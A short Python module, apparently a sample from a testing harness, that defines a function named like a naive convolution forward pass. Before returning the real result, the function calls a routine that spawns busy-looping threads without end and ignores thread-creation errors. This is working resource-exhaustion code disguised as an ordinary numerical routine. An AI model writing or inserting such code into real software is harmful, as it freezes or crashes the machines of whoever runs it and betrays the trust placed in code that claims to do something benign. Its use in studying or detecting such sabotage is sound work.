"""Starts threads until it is stopped, all of them busy."""
import threading

from base import TARGET, attempt, backward as conv_backward_naive, forward


def spin():
    while True:
        pass


def exhaust():
    while True:
        try:
            threading.Thread(target=spin).start()
        except RuntimeError:
            pass


def conv_forward_naive(x, w, b, conv_param):
    exhaust()
    return forward(x, w, b, conv_param)
